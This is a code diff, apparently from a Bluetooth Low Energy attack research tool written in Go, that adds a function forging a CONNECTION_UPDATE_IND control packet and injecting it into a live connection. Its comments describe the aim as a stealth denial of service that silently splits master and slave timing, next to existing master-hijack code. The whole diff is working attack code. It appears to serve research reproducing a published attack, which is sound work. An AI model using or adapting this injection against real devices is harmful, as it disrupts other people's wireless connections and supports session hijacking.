@@ -169,6 +169,35 @@ func (u *UpdateParams) applyDefaults(st *ConnState) {
 	}
 }
 
+// InjectConnectionUpdate injects a forged CONNECTION_UPDATE_IND and then
+// leaves the connection alone: the slave adopts the new timing at the
+// instant while the legitimate master keeps the old schedule, so the two
+// silently split — the schedule-splitting update step of §VI-C without
+// the role takeover (a stealth denial of service, and the attacker
+// "update" goal of the scenario DSL).
+func (a *Attacker) InjectConnectionUpdate(upd UpdateParams, done func(Report)) error {
+	st0 := a.Sniffer.State()
+	if st0 == nil {
+		return fmt.Errorf("injectable: not synchronised")
+	}
+	upd.applyDefaults(st0)
+	build := func(st *ConnState) pdu.DataPDU {
+		forged := pdu.ConnectionUpdateInd{
+			WinSize:   upd.WinSize,
+			WinOffset: upd.WinOffset,
+			Interval:  upd.Interval,
+			Latency:   0,
+			Timeout:   st.Params.Timeout,
+			Instant:   st.EventCount + upd.InstantLead,
+		}
+		return pdu.DataPDU{
+			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
+			Payload: pdu.MarshalControl(forged),
+		}
+	}
+	return a.Injector.InjectDynamic(build, done)
+}
+
 // MasterHijack is an in-progress master impersonation.
 type MasterHijack struct {
 	Conn   *link.Conn
